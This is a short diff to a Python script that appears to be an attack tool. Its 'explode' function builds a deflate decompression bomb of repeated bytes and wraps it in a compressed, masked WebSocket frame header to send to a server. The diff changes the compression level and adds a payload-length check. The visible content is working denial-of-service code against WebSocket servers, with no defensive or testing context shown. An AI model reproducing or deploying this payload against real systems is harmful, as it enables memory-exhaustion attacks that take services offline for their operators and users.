@@ -100,11 +100,13 @@ def deflate_of(head: bytes) -> str:
 
 def explode(connection: socket.socket) -> None:
     """A small window is within what any server has agreed to."""
-    deflate = zlib.compressobj(9, zlib.DEFLATED, -10)
+    deflate = zlib.compressobj(1, zlib.DEFLATED, -10)
     part = b"a" * MIB
     payload = b"".join(deflate.compress(part) for _ in range(BOMB // MIB))
     payload += deflate.flush(zlib.Z_SYNC_FLUSH)[:-4]
     connection.settimeout(10)
+    if len(payload) < 2**16:
+        raise ValueError("the header is that of a longer frame")
     header = b"\xc1\xff" + struct.pack("!Q", len(payload)) + KEY
     # The end of the connection, a Close or the end of the echo: what a server does until then.
     with contextlib.suppress(OSError):
